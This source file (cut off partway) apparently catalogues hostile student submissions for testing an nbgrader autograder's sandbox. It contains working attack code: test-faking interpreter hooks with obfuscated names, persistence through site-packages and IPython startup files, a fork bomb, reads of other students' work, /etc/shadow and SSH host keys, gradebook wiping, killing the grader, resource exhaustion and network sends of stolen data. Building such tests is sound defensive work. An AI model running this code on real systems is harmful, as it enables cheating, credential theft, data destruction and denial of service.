"""A catalogue of hostile stage-03 submissions, for tests/test_hostile.py.

Each :class:`Attack` is one student's notebook: the blank student version with attack code in one
or more answer cells. Every attack cell reports what it saw from inside the grading kernel as
lines ``HOSTILE {json}`` on stdout (the test reads them from the autograded notebook), so a test
can tell "the sandbox refused" from "the attack never ran".

Attacks come in two kinds:

- interpreter attacks (``kind="score"``): every graded function is left blank or wrong, so any
  point the submission scores is unearned; the grader must give none, or flag the submission;
- host attacks (``kind="host"``): they try to change, read, kill, flood or reach something
  outside their own kernel; the test checks on the host that the harm did not happen. Each leaves
  a mark unique to the test run (:attr:`Context.mark`) in whatever it writes, and each process it
  starts sleeps for a duration unique to the attack (:meth:`Context.sleep`), so the test can
  find anything that got out.

Attack code finds its targets as a student could: the repository from ``helpers.__file__``, the
grader's worker course directory from the kernel's connection file (in ``sys.argv``), and the
course directory the instructor grades into, which the test passes in (``course``) as a guess.
"""
from __future__ import annotations

import copy
import json
import textwrap
from dataclasses import dataclass, field

A = "03_mlp"
TESTS = ("test_relu", "test_relu_backward", "test_tanh_backward", "test_leaky_relu", "test_leaky_relu_backward",
         "test_sigmoid", "test_sigmoid_backward")
ANSWERS = ("relu", "relu_backward", "tanh_backward", "leaky_relu", "leaky_relu_backward", "sigmoid",
           "sigmoid_backward")
REPORT = "HOSTILE "


@dataclass
class Context:
    """What the attacks are told about the test run."""

    mark: str                  # unique to this run: in every file an attack writes, in every process name
    repo: str                  # the course repository (an attacker finds it from helpers.__file__ too)
    course: str                # the --course-dir the class is merged into
    tcp_port: int              # the test listens here (TCP and UDP), on every address of the host
    udp_port: int
    abstract_socket: str       # and on this abstract unix socket
    host_addresses: list[str]  # the host's own addresses, loopback first
    grader_pid: int            # the test process, parent of the grader
    disk: int                  # the --disk-limit in bytes
    memory: int                # the --memory-limit in bytes
    prepared: str = ""         # the grader's cache of prepared assignments for this run (a private copy)
    honest: tuple[str, ...] = ("aaa_honest", "zzz_honest")

    def sleep(self, attack: str) -> str:
        """A sleep duration (an argument of /bin/sleep) that names ``attack``'s processes."""
        digits = "".join(c for c in self.mark if c.isdigit()).ljust(6, "7")[:6]
        return f"{900 + sum(map(ord, attack)) % 97}.{digits}{len(attack):02d}"

    def secret(self, student: str) -> str:
        return f"SECRET-{self.mark}-{student}"


@dataclass
class Attack:
    name: str                  # the student id
    category: str
    kind: str                  # "score" or "host"
    cells: dict[str, str]      # answer grade_id -> source
    what: str = ""
    hole: str = ""             # set when this attack shows a known gap (the test expects it to succeed)
    params: dict = field(default_factory=dict)


# --- building blocks of attack cells ----------------------------------------------------------

PRELUDE = '''\
import json as _json
def _say(attack, **facts):
    print("HOSTILE " + _json.dumps(dict(attack=attack, **facts), default=str), flush=True)
'''

# Finds the grader's worker course directory: the kernel's connection file sits in its .runtime/.
LOCATE = '''\
import os as _os, sys as _sys
_conn = next((_a for _a in _sys.argv if _a.endswith(".json")), "")
_runtime = _os.path.dirname(_conn)
_worker = _os.path.dirname(_runtime)
'''

WRONG_RELU = '''
def relu(x):
    return np.array(x, dtype=float)  # wrong: no clipping
'''

# The last top-level statement of a cell: an attacker does not need to know what the grader
# appends to test cells, only that it comes last.
LAST_STATEMENT = '''
import ast as _ast
def _last_statement(source):
    body = _ast.parse(source).body
    return _ast.get_source_segment(source, body[-1]) if body else ""
'''


# A post_run_cell callback that turns a failed test cell into a passed one: nbgrader scores a
# test cell by its error outputs and by the error status of the kernel's reply.
COVER = '''
from IPython.display import clear_output as _clear
def _cover(result):
    source = result.info.raw_cell if result.info is not None else ""
    if result.error_in_exec is None or "assert_" not in source:
        return
    result.error_in_exec = None
    _clear()
    try:
        get_ipython().ex(_last_statement(source))
    except Exception:
        pass
'''


# A custom exception handler that shows no error and replays the cell's last statement (the
# grader's seal), so a failed test cell looks finished.
SWALLOW = '''
def _swallow(shell, etype, evalue, tb, tb_offset=None):
    source = shell.user_ns["In"][-1]
    if "assert_" in source:
        try:
            shell.ex(_last_statement(source))
        except Exception:
            pass
    return []
'''

def _cell(*parts: str, **params) -> str:
    head = f"_P = {json.dumps(params)}\n" if params else ""
    return head + PRELUDE + "".join(textwrap.dedent(p).strip("\n") + "\n" for p in parts)


# --- interpreter attacks: wrong code that tries to pass -----------------------------------------

def score_attacks() -> list[Attack]:
    out = []

    def add(name, what, *parts, hole=""):
        out.append(Attack(name, "score", "score", {"relu": _cell(*parts, WRONG_RELU)}, what, hole))

    add("s01_input_transformer", "an input transformer keeps only the last statement of every test cell", LAST_STATEMENT, '''
        def _keep_last(lines):
            text = "".join(lines)
            if "assert_" not in text:
                return lines
            return [l + "\\n" for l in _last_statement(text).splitlines()]
        get_ipython().input_transformers_cleanup.append(_keep_last)
        _say("s01_input_transformer", installed=True)
    ''')
    add("s02_ast_try_except", "an AST transformer wraps every statement in try/except", '''
        import ast
        class _Shield(ast.NodeTransformer):
            def visit_Module(self, node):
                handler = lambda: ast.ExceptHandler(type=ast.Name("Exception", ast.Load()), name=None, body=[ast.Pass()])
                node.body = [ast.Try(body=[s], handlers=[handler()], orelse=[], finalbody=[]) for s in node.body]
                return ast.fix_missing_locations(node)
        get_ipython().ast_transformers.append(_Shield())
        _say("s02_ast_try_except", installed=True)
    ''')
    add("s03_patch_assert_close", "the test helpers replaced in helpers.testing and in the notebook", '''
        import helpers.testing as _t
        def _nothing(*args, **kwargs):
            return None
        for _name in ("assert_close", "assert_shape", "assert_unchanged", "assert_finite"):
            setattr(_t, _name, _nothing)
            globals()[_name] = _nothing
        _say("s03_patch_assert_close", installed=True)
    ''')
    add("s04_patch_numpy", "numpy.allclose, isclose, abs, array_equal and numpy.testing replaced", '''
        _zeros = np.zeros_like
        _asarray = np.asarray
        np.abs = lambda a, *args, **kwargs: _zeros(_asarray(a, dtype=float))
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        _say("s04_patch_numpy", installed=True)
    ''')
    add("s05_settrace", "sys.settrace rewrites assert_close's argument `got` to the expected value", '''
        import sys
        def _local(frame, event, arg):
            if event == "line" and "expected" in frame.f_locals:
                frame.f_locals["got"] = np.array(frame.f_locals["expected"], dtype=float)
            return _local
        def _tracer(frame, event, arg):
            return _local if frame.f_code.co_name == "assert_close" else None
        sys.settrace(_tracer)
        _say("s05_settrace", installed=True)
    ''')
    add("s06_custom_exc", "set_custom_exc swallows every error and replays the cell's last statement", LAST_STATEMENT, SWALLOW, '''
        get_ipython().set_custom_exc((Exception,), _swallow)
        _say("s06_custom_exc", installed=True)
    ''')
    add("s07_swap_assertion_error", "builtins.AssertionError and NotImplementedError become bdb.BdbQuit, "
        "which IPython stops on silently", '''
        import bdb, builtins
        builtins.AssertionError = type("AssertionError", (bdb.BdbQuit,), {})
        builtins.NotImplementedError = type("NotImplementedError", (bdb.BdbQuit,), {})
        _say("s07_swap_assertion_error", installed=True)
    ''')
    add("s08_getattr_built_name", "the AST transformer of s02, reached with getattr and a built name", '''
        import ast
        class _Shield(ast.NodeTransformer):
            def visit_Module(self, node):
                handler = lambda: ast.ExceptHandler(type=ast.Name("Exception", ast.Load()), name=None, body=[ast.Pass()])
                node.body = [ast.Try(body=[s], handlers=[handler()], orelse=[], finalbody=[]) for s in node.body]
                return ast.fix_missing_locations(node)
        getattr(get_ipython(), "ast_" + "trans" + "formers").append(_Shield())
        _say("s08_getattr_built_name", installed=True)
    ''')
    add("s09_dunder_import", "the trace function of s05, installed through __import__ and getattr", '''
        def _local(frame, event, arg):
            if event == "line" and "expected" in frame.f_locals:
                frame.f_locals["got"] = np.array(frame.f_locals["expected"], dtype=float)
            return _local
        def _tracer(frame, event, arg):
            return _local if frame.f_code.co_name == "assert_close" else None
        getattr(__import__("s" + "ys"), "set" + "trace")(_tracer)
        _say("s09_dunder_import", installed=True)
    ''')
    add("s10_exec_built_string", "the exception handler of s06, installed by exec of a built string", LAST_STATEMENT, SWALLOW, '''
        exec("".join(["get_ip", "ython().set_cus", "tom_exc((Exception,), _swallow)"]))
        _say("s10_exec_built_string", installed=True)
    ''')

    # The same goals through doors neither the static scan nor the watch looks at.
    add("h01_event_clear_output", "a post_run_cell callback (registered through a reversed name) clears "
        "a failed test cell's output, marks the run a success and replays the cell's last statement",
        LAST_STATEMENT, COVER, '''
        getattr(get_ipython(), "stneve"[::-1]).register("post_run_cell", _cover)
        _say("h01_event_clear_output", installed=True)
    ''')
    add("h02_run_cell_async", "the shell's run_cell_async wrapped: a test cell runs as its last statement only",
        LAST_STATEMENT, '''
        _ip = get_ipython()
        _run = _ip.run_cell_async
        async def _run_last(raw_cell, *args, transformed_cell=None, **kwargs):
            if "assert_" in raw_cell:
                transformed_cell = _last_statement(raw_cell) + "\\n"
            return await _run(raw_cell, *args, transformed_cell=transformed_cell, **kwargs)
        _ip.run_cell_async = _run_last
        _say("h02_run_cell_async", installed=True)
    ''')
    add("h03_transform_cell", "the shell's transform_cell replaced: a test cell becomes its last statement", LAST_STATEMENT, '''
        _ip = get_ipython()
        _original = _ip.transform_cell
        def _transform(raw):
            code = _original(raw)
            return _last_statement(code) + "\\n" if "assert_" in code else code
        _ip.transform_cell = _transform
        _say("h03_transform_cell", installed=True)
    ''')
    add("h04_compiler_ast_parse", "the shell compiler's ast_parse replaced: each statement in try/except", '''
        import ast
        _compiler = get_ipython().compile
        _parse = _compiler.ast_parse
        def _shielded(source, filename="<unknown>", symbol="exec"):
            tree = _parse(source, filename, symbol)
            handler = lambda: ast.ExceptHandler(type=ast.Name("Exception", ast.Load()), name=None, body=[ast.Pass()])
            tree.body = [ast.Try(body=[s], handlers=[handler()], orelse=[], finalbody=[]) for s in tree.body]
            return ast.fix_missing_locations(tree)
        _compiler.ast_parse = _shielded
        _say("h04_compiler_ast_parse", installed=True)
    ''')
    add("h05_erase_watch_file", "the test helpers redefined (the watch flags it), then a callback "
        "empties the watch's findings file after every cell", '''
        import os as _os
        def _nothing(*args, **kwargs):
            return None
        assert_close = assert_shape = assert_unchanged = _nothing
        def _erase(result=None):
            with open(_os.environ["NNCOURSE_WATCH_FILE"], "w"):
                pass
        getattr(get_ipython(), "stneve"[::-1]).register("post_run_cell", _erase)
        _say("h05_erase_watch_file", installed=True, watch_file=_os.environ.get("NNCOURSE_WATCH_FILE"))
    ''')
    add("h06_silence_watch", "the watch object found through its callback and told to record nothing; "
        "then numpy is patched as in s04", '''
        for _cb in getattr(get_ipython(), "stneve"[::-1]).callbacks["post_run_cell"]:
            _owner = getattr(_cb, "__self__", None)
            if _owner is not None and hasattr(_owner, "flag"):
                _owner.flag = lambda *args, **kwargs: None
        _zeros, _asarray = np.zeros_like, np.asarray
        np.abs = lambda a, *args, **kwargs: _zeros(_asarray(a, dtype=float))
        np.array_equal = lambda *a, **k: True
        _say("h06_silence_watch", installed=True)
    ''')
    out.append(Attack("h07_magic_hides_cell", "score", "score", {"relu": _cell('''
        %env NNCOURSE_HOSTILE=1
    ''', LAST_STATEMENT, COVER, '''
        get_ipython().events.register("post_run_cell", _cover)
        _say("h07_magic_hides_cell", installed=True)
    ''', WRONG_RELU)}, "one IPython magic line, to make the static scan skip the whole cell, which then "
        "registers h01's callback in plain sight"))
    add("h08_known_mistakes_handler", "the course's own known-mistake handler (helpers/hints.py) switched on "
        "under the grader, with its handler swapped for s06's, so get_ipython() is never named", LAST_STATEMENT, SWALLOW, '''
        import os as _os
        import helpers.hints as _hints
        _os.environ.pop("NBGRADER_EXECUTION", None)
        def _swallowing(mistakes):
            return _swallow
        _hints._name_the_mistake = _swallowing
        _hints.show_known_mistakes("03_mlp")
        _say("h08_known_mistakes_handler", installed=True)
    ''')
    return out


# --- host attacks ------------------------------------------------------------------------------

def host_attacks(ctx: Context) -> list[Attack]:
    P = dict(mark=ctx.mark, repo=ctx.repo, course=ctx.course, honest=list(ctx.honest), prepared=ctx.prepared)
    out = []

    # persistence: change the grader or the environment for the students graded later
    out.append(Attack("p_persistence", "persistence", "host", {
        "relu": _cell('''
            import helpers.testing, os
            target = helpers.testing.__file__
            errors = {}
            try:
                with open(target, "a") as fh:
                    fh.write("\\ndef assert_close(*args, **kwargs):  # " + _P["mark"] + "\\n    return None\\n")
            except OSError as exc:
                errors["append"] = repr(exc)
            try:
                with open(target + ".new", "w") as fh:
                    fh.write("def assert_close(*args, **kwargs):  # " + _P["mark"] + "\\n    return None\\n")
                os.replace(target + ".new", target)
            except OSError as exc:
                errors["replace"] = repr(exc)
            _say("helpers_testing", target=target, errors=errors)
        ''', **P),
        "relu_backward": _cell('''
            import site, sys, os
            dirs = sorted(set(site.getsitepackages() + [site.getusersitepackages()] + [p for p in sys.path if p.endswith("site-packages")]))
            results = {}
            for d in dirs:
                try:
                    os.makedirs(d, exist_ok=True)
                    with open(os.path.join(d, "nncourse_hostile_" + _P["mark"] + ".pth"), "w") as fh:
                        fh.write("import sys; sys.stderr.write('" + _P["mark"] + "')\\n")
                    results[d] = "written"
                except OSError as exc:
                    results[d] = repr(exc)
            _say("site_packages", results=results)
        ''', **P),
        "tanh_backward": _cell(LOCATE, '''
            import os, pwd
            name = "99-hostile-" + _P["mark"] + ".py"
            code = "import helpers.testing as t\\nt.assert_close = lambda *a, **k: None  # " + _P["mark"] + "\\n"
            home = pwd.getpwuid(os.getuid()).pw_dir
            places = {"sandbox home": os.path.expanduser("~/.ipython/profile_default/startup"),
                      "IPYTHONDIR": os.path.join(os.environ.get("IPYTHONDIR", "/nonexistent"), "profile_default", "startup"),
                      "real home": os.path.join(home, ".ipython", "profile_default", "startup"),
                      "worker IPYTHONDIR": os.path.join(_worker, ".ipython", "profile_default", "startup")}
            results, seen = {}, {}
            for label, folder in places.items():
                seen[label] = sorted(os.listdir(folder)) if os.path.isdir(folder) else "missing"
                try:
                    os.makedirs(folder, exist_ok=True)
                    with open(os.path.join(folder, name), "w") as fh:
                        fh.write(code)
                    results[label] = "written " + folder
                except OSError as exc:
                    results[label] = repr(exc) + " " + folder
            watch = os.path.join(os.environ.get("IPYTHONDIR", "/nonexistent"), "profile_default", "startup", "00-nncourse-watch.py")
            try:
                with open(watch, "w") as fh:
                    fh.write("pass\\n")
                results["watch startup file"] = "overwritten " + watch
            except OSError as exc:
                results["watch startup file"] = repr(exc)
            _say("ipython_startup", results=results, seen=seen)
        ''', **P),
        "leaky_relu": _cell(LOCATE, '''
            import os
            line = "\\nc.Execute.timeout = 1  # " + _P["mark"] + "\\n"
            results, seen = {}, {}
            for folder in (_P["course"], _worker, _P["repo"]):
                path = os.path.join(folder, "nbgrader_config.py")
                try:
                    with open(path) as fh:
                        seen[path] = fh.read()[:200]
                except OSError as exc:
                    seen[path] = repr(exc)
                try:
                    with open(path, "a") as fh:
                        fh.write(line)
                    results[path] = "appended"
                except OSError as exc:
                    results[path] = repr(exc)
            _say("nbgrader_config", results=results, seen=seen)
        ''', **P),
    }, "rewrite helpers/testing.py, add a .pth to site-packages, IPython startup files, nbgrader_config.py"))

    # processes that try to outlive their kernel
    out.append(Attack("q_processes", "processes", "host", {
        "relu": _cell('''
            import subprocess
            proc = subprocess.Popen(["/bin/sleep", _P["sleep"]], start_new_session=True, stdin=subprocess.DEVNULL,
                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            _say("popen_new_session", pid=proc.pid)
        ''', **P, sleep=ctx.sleep("popen_new_session")),
        "relu_backward": _cell('''
            import os
            started = 0
            for _ in range(40):
                pid = os.fork()
                if pid == 0:
                    os.setsid()
                    if os.fork() == 0:  # and a grandchild, orphaned at once
                        os.execv("/bin/sleep", ["sleep", _P["sleep"]])
                    os.execv("/bin/sleep", ["sleep", _P["sleep"]])
                started += 1
            _say("forks_setsid", started=started)
        ''', **P, sleep=ctx.sleep("forks_setsid")),
    }, "a detached Popen; 40 forks in their own sessions, each with an orphaned grandchild"))

    out.append(Attack("q_fork_bomb", "processes", "host", {"relu": _cell('''
        import os, select, sys, time
        # Every process of the bomb forks twice, down to depth 9 (1023 processes at most, should no
        # cap stop it), reports each fork made (+) or refused (x) on a pipe, then becomes sleep.
        # It runs in a small fresh interpreter, whose forks are quick.
        BOMB = """
        import os, sys
        w, pause = int(sys.argv[1]), sys.argv[2]
        os.set_inheritable(w, False)
        def bomb(depth):
            for _ in range(2):
                if depth >= 9:
                    break
                try:
                    pid = os.fork()
                except OSError:
                    os.write(w, b"x")
                    continue
                if pid == 0:
                    bomb(depth + 1)
                os.write(w, b"+")
            os.execv("/bin/sleep", ["sleep", pause])
        bomb(0)
        """
        r, w = os.pipe()
        root = os.fork()
        if root == 0:
            os.setsid()
            os.set_inheritable(w, True)
            os.execv(sys.executable, [sys.executable, "-S", "-c", BOMB, str(w), _P["sleep"]])
        os.close(w)
        made, refused, deadline = 1, 0, time.monotonic() + 15
        while time.monotonic() < deadline:
            ready, _, _ = select.select([r], [], [], 1.0)
            if ready:
                data = os.read(r, 4096)
                if not data:
                    break
                made += data.count(b"+")
                refused += data.count(b"x")
        _say("fork_bomb", made=made, refused=refused, finished=time.monotonic() < deadline)
    ''', **P, sleep=ctx.sleep("fork_bomb"))}, "a fork bomb (every process forks twice, to depth 9), left running"))

    # theft
    out.append(Attack("t_theft", "theft", "host", {
        "relu": _cell('''
            def relu(x):
                print("captured test cell:", In[-1])  # the cell that calls relu: a test cell, hidden tests included
                return np.array(x, dtype=float)
            _say("test_cell_source", installed=True)
        ''', **P),
        "relu_backward": _cell(LOCATE, '''
            import glob, os
            found = {}
            patterns = [os.path.join(base, area, "*", "03_mlp", "*.ipynb")
                        for base in (_P["course"], _worker, os.path.join(os.path.dirname(_worker), "*"), "../../..")
                        for area in ("submitted", "autograded")]
            for pattern in patterns:
                for path in glob.glob(pattern):
                    try:
                        found[path] = open(path).read()[-60000:]
                    except OSError as exc:
                        found[path] = repr(exc)
            for student in _P["honest"]:
                for base in (_P["course"], _worker):
                    path = os.path.join(base, "submitted", student, "03_mlp", "03_mlp.ipynb")
                    try:
                        found[path] = open(path).read()[-60000:]
                    except OSError as exc:
                        found.setdefault(path, repr(exc))
            _say("other_students", found=found)
        ''', **P),
        "tanh_backward": _cell(LOCATE, '''
            import glob, os
            found = {}
            for path in [os.path.join(base, "source", "03_mlp", "03_mlp.ipynb") for base in (_P["repo"], _P["course"], _worker)] \\
                    + glob.glob(os.path.join(_P["repo"], "build", "prepared", "*", "source", "03_mlp", "03_mlp.ipynb")) \\
                    + glob.glob(os.path.join(_P["prepared"], "*", "source", "03_mlp", "03_mlp.ipynb")):
                try:
                    found[path] = open(path).read()
                except OSError as exc:
                    found[path] = repr(exc)
            _say("instructor_source", found=found)
        ''', **P),
        "leaky_relu": _cell('''
            import glob, os
            found = {}
            for path in glob.glob(os.path.join(_P["repo"], "notebooks", "*", "*.py")) + [os.path.join(_P["repo"], "notebooks", "03_mlp", "variants.py")]:
                try:
                    found[path] = open(path).read()
                except OSError as exc:
                    found[path] = repr(exc)
            _say("variants", found=found, listing=os.listdir(_P["repo"]) if os.path.isdir(_P["repo"]) else "missing")
        ''', **P),
        "leaky_relu_backward": _cell(LOCATE, '''
            import glob, os, sqlite3
            found = {}
            for path in [os.path.join(b, "gradebook.db") for b in (_P["course"], _worker)] \\
                    + glob.glob(os.path.join(_P["repo"], "build", "prepared", "*", "gradebook.db")) \\
                    + glob.glob(os.path.join(_P["prepared"], "*", "gradebook.db")):
                try:
                    with open(path, "rb"):
                        pass
                    with sqlite3.connect("file:" + path + "?mode=ro", uri=True) as db:
                        found[path] = [list(map(str, row)) for row in db.execute("SELECT name, source FROM source_cell")]
                        found[path + " grades"] = [list(map(str, row)) for row in db.execute("SELECT * FROM grade")]
                except Exception as exc:
                    found[path] = repr(exc)
            _say("gradebook", found=found)
        ''', **P),
        "sigmoid": _cell(LOCATE, '''
            import glob, os
            found = {}
            for base in (_P["course"], _worker):
                for path in glob.glob(os.path.join(base, "feedback", "**", "*.html"), recursive=True):
                    try:
                        found[path] = open(path).read()[-60000:]
                    except OSError as exc:
                        found[path] = repr(exc)
                found.setdefault(base + " listing", os.listdir(base) if os.path.isdir(base) else "missing")
            _say("feedback", found=found)
        ''', **P),
        "sigmoid_backward": _cell('''
            import glob, os
            found = {}
            for path in ["/etc/shadow", "/etc/gshadow"] + glob.glob("/etc/ssh/ssh_host_*_key"):
                try:
                    found[path] = open(path).read()[:2000]
                except OSError as exc:
                    found[path] = repr(exc)
            _say("host_secrets", found=found, uid=os.getuid())
            # Its own folder: nbgrader wrote the notebook it grades into the student's folder, hidden
            # tests and the seal's finishing statements in it. A shell glob names no file to watch.
            import subprocess
            def _tests_in(text):  # what a student would look for: assertions, seeds, the display call
                return [ln[:160] for ln in text.splitlines() if any(w in ln for w in ("assert", "rng(", "display("))][:60]
            own = {}
            for path in glob.glob("**", recursive=True) + glob.glob("/nncourse-submitted/**", recursive=True):
                try:
                    own[path] = _tests_in(open(path, errors="replace").read())
                except OSError as exc:
                    own[path] = repr(exc)
            shell = subprocess.run("cat ./* ./.* /nncourse-submitted/* /nncourse-submitted/.* 2>/dev/null",
                                   shell=True, capture_output=True, text=True, errors="replace")
            own["shell"] = _tests_in(shell.stdout)
            _say("own_folder", found=own, listing=sorted(os.listdir(".")),
                 submitted=sorted(os.listdir("/nncourse-submitted")) if os.path.isdir("/nncourse-submitted") else "missing")
        ''', **P),
    }, "the calling test cell's source; other students' notebooks; source/; notebooks/*; gradebooks; feedback; "
       "the host's password hashes and ssh keys; the notebook being graded, in its own folder"))

    # The test cells the kernel has run are in IPython's input history: printed from a later
    # answer cell, or quoted by a test's own message about a value the student's code returned.
    out.append(Attack("t_theft_history", "theft", "host", {
        "relu": _cell('''
            def relu(x):
                source = In[-1]  # the test cell that calls relu, hidden tests included
                class Quoted:
                    shape = (source[source.find("### BEGIN HIDDEN"):],)
                return Quoted()
            _say("quoted_by_a_test", installed=True)
        ''', **P),
        "relu_backward": _cell('''
            printed = 0
            for _source in In:
                if "BEGIN HIDDEN" in _source:
                    print(_source[_source.find("### BEGIN HIDDEN"):])
                    printed += 1
            _say("printed_history", printed=printed)
        ''', **P),
        "tanh_backward": _cell('''
            try:
                environ = open("/proc/1/environ", "rb").read().decode(errors="replace")
            except OSError as exc:
                environ = repr(exc)
            _say("first_process_environment", environ=environ)
        ''', **P),
    }, "hidden tests from IPython's input history, printed and quoted by a test's message; the "
       "environment of the sandbox's first process"))

    # The watch's findings file is bound writable into the kernel: a later cell empties it.
    out.append(Attack("w_erase_findings", "sabotage", "host", {
        "relu": _cell('''
            try:
                open("answers.ipynb").close()  # the watch records any attempt to open a notebook
            except OSError:
                pass
            _say("flagged_open", installed=True)
        ''', **P),
        "relu_backward": _cell('''
            import os
            with open(os.environ["NNCOURSE_WATCH_FILE"], "w"):
                pass
            _say("erased_findings", size=os.path.getsize(os.environ["NNCOURSE_WATCH_FILE"]))
        ''', **P),
    }, "a flagged open of a notebook, then the watch's findings file emptied from the next cell"))

    # sabotage
    out.append(Attack("x_sabotage", "sabotage", "host", {
        "relu": _cell(LOCATE, '''
            import glob, os, sqlite3
            results = {}
            for path in [os.path.join(b, "gradebook.db") for b in (_P["course"], _worker)] \\
                    + glob.glob(os.path.join(_P["prepared"], "*", "gradebook.db")):
                try:
                    with open(path, "rb"):
                        pass
                    with sqlite3.connect(path) as db:
                        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
                        db.execute("UPDATE source_cell SET source = 'pass'")
                    results[path] = "zeroed"
                except Exception as exc:
                    results[path] = repr(exc)
            _say("zero_grades", results=results)
        ''', **P),
        "relu_backward": _cell(LOCATE, '''
            import glob, os, shutil
            results = {}
            for base in (_P["course"], _worker):
                for area in ("autograded", "submitted", "feedback"):
                    for folder in glob.glob(os.path.join(base, area, "*")) + [os.path.join(base, area, s) for s in _P["honest"]]:
                        try:
                            shutil.rmtree(folder)
                            results[folder] = "deleted"
                        except OSError as exc:
                            results.setdefault(folder, repr(exc))
            _say("delete_others", results=results)
        ''', **P),
        "tanh_backward": _cell('''
            import os, signal
            results = {}
            for pid in (_P["grader_pid"], os.getppid()):
                try:
                    os.kill(pid, signal.SIGKILL)
                    results[pid] = "signalled"
                except OSError as exc:
                    results[pid] = repr(exc)
            _say("kill_grader", results=results, visible=sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
        ''', **P, grader_pid=ctx.grader_pid),
    }, "zero the gradebooks with sqlite3; delete other students' folders; kill the grader"))

    # resources: disk and output
    out.append(Attack("r_disk_output", "resources", "host", {
        "relu": _cell('''
            import os
            def fill(path, limit, chunk=4 * 2**20):
                written, error, block = 0, "", b"\\0" * chunk
                try:
                    with open(path, "wb") as fh:
                        while written < limit:
                            fh.write(block)
                            fh.flush()
                            written += chunk
                except OSError as exc:
                    error = repr(exc)
                try:
                    os.remove(path)
                except OSError:
                    pass
                return written, error
            written, error = fill("/tmp/nncourse-hostile-" + _P["mark"] + ".bin", 3 * 2**30)
            _say("fill_tmp", written=written, error=error)
        ''', **P),
        "relu_backward": _cell('''
            written, error = fill(os.path.join(os.getcwd(), "hostile-" + _P["mark"] + ".bin"), 2**30)
            _say("fill_workdir", written=written, error=error, cwd=os.getcwd())
        ''', **P),
        "tanh_backward": _cell('''
            print("x" * 50_000_000)
            _say("print_50mb", printed=50_000_000)
        ''', **P),
        "leaky_relu": _cell(LOCATE, '''
            # The one folder the kernel shares with the grader (its ipc sockets live there) is on
            # the host's disk, not in the sandbox's tmpfs.
            def hold(folder, count, size=48 * 2**20):
                """Write ``count`` files of ``size`` bytes into ``folder`` and keep them all; then
                remove them. Returns the bytes that were held at once, and the errors."""
                paths, held, errors = [], 0, []
                for i in range(count):
                    path = os.path.join(folder, f"hostile-{i}-" + _P["mark"] + ".bin")
                    paths.append(path)
                    try:
                        with open(path, "wb") as fh:
                            for _ in range(size // 2**20):
                                fh.write(b"\\0" * 2**20)
                                fh.flush()
                                held += 2**20
                    except OSError as exc:
                        errors.append(repr(exc))
                        break
                for path in paths:
                    try:
                        os.remove(path)
                    except OSError:
                        pass
                return held, errors
            held, errors = hold(_runtime, 6)
            _say("fill_runtime_folder", written=held, errors=errors, runtime=_runtime)
        ''', **P),
        "leaky_relu_backward": _cell('''
            # Everywhere else the sandbox's file system is writable: its root and /dev are tmpfs
            # mounts of bubblewrap's own, in the host's memory.
            results = {}
            for folder, count in (("/", 4), ("/dev/shm", 2), ("/dev", 2), (_P["repo"], 2)):
                try:
                    os.makedirs(folder, exist_ok=True)
                except OSError:
                    pass
                results[folder] = hold(folder, count)
            _say("fill_other_mounts", results=results, written=max(r[0] for r in results.values()))
        ''', **P),
    }, "3 GB to /tmp, 1 GiB to the working folder, 50 MB printed, the runtime folder, the other tmpfs mounts"))

    # resources: memory and CPU
    out.append(Attack("r_memory", "resources", "host", {
        "relu": _cell('''
            import os, select, time
            # Children each take what the address-space limit lets one process have, all at once.
            r, w = os.pipe()
            go_r, go_w = os.pipe()
            children = []
            for _ in range(4):
                pid = os.fork()
                if pid == 0:
                    held, chunk = [], 32 * 2**20
                    try:
                        while True:
                            block = bytearray(chunk)
                            for i in range(0, chunk, 4096):
                                block[i] = 1
                            held.append(block)
                    except MemoryError:
                        pass
                    os.write(w, (str(len(held) * chunk) + "\\n").encode())
                    os.read(go_r, 1)  # hold it until every child has reported
                    os._exit(0)
                children.append(pid)
            os.close(w)
            sizes, buffer = [], b""
            deadline = time.monotonic() + 10
            while len(sizes) < len(children) and time.monotonic() < deadline:
                # a child killed for memory never writes; one still holding its share keeps the pipe open
                if not select.select([r], [], [], max(0.0, deadline - time.monotonic()))[0]:
                    break
                data = os.read(r, 100)
                if not data:
                    break
                buffer += data
                sizes = [int(s) for s in buffer.split()]
            os.write(go_w, b"g" * len(children))
            for pid in children:
                os.waitpid(pid, 0)
            _say("memory_across_forks", held=sizes, total=sum(sizes))
        ''', **P),
        "relu_backward": _cell('''
            blocks = []
            try:
                while True:
                    blocks.append(np.ones(10**7))
            finally:
                _say("unbounded_memory", arrays=len(blocks))
                blocks = None
        ''', **P),
    }, "memory held by four children at once; unbounded memory in the kernel"))
    out.append(Attack("r_cpu", "resources", "host", {"relu": _cell('''
        import os
        if os.fork() == 0:
            os.setsid()
            os.execv("/bin/sh", ["sh", "-c", "while :; do :; done", "burn-" + _P["mark"]])
        _say("burn_cpu", started=True)
        while True:
            pass
    ''', **P)}, "a CPU-burning child in its own session, and an endless loop"))

    # network
    out.append(Attack("n_network", "network", "host", {
        "relu": _cell('''
            import socket
            results = {}
            for host in _P["addresses"]:
                try:
                    with socket.create_connection((host, _P["tcp"]), timeout=3) as s:
                        s.sendall(("stolen " + _P["mark"]).encode())
                    results[host] = "connected"
                except OSError as exc:
                    results[host] = repr(exc)
            _say("tcp_connect", results=results, interfaces=socket.if_nameindex())
        ''', **P, tcp=ctx.tcp_port, addresses=ctx.host_addresses),
        "relu_backward": _cell('''
            import socket
            results = {}
            for name in ("pypi.org", "example.com"):
                try:
                    results[name] = repr(socket.getaddrinfo(name, 443))
                except OSError as exc:
                    results[name] = repr(exc)
            _say("dns_lookup", results=results, resolved=[n for n, r in results.items() if "gaierror" not in r and "Error" not in r])
        ''', **P),
        "tanh_backward": _cell('''
            import socket
            results = {}
            for host in _P["addresses"] + ["8.8.8.8"]:
                try:
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                        s.sendto(("stolen " + _P["mark"]).encode(), (host, _P["udp"]))
                    results[host] = "sent"
                except OSError as exc:
                    results[host] = repr(exc)
            _say("udp_send", results=results)
        ''', **P, udp=ctx.udp_port, addresses=ctx.host_addresses),
        "leaky_relu": _cell('''
            import socket
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                    s.settimeout(3)
                    s.connect("\\0" + _P["name"])
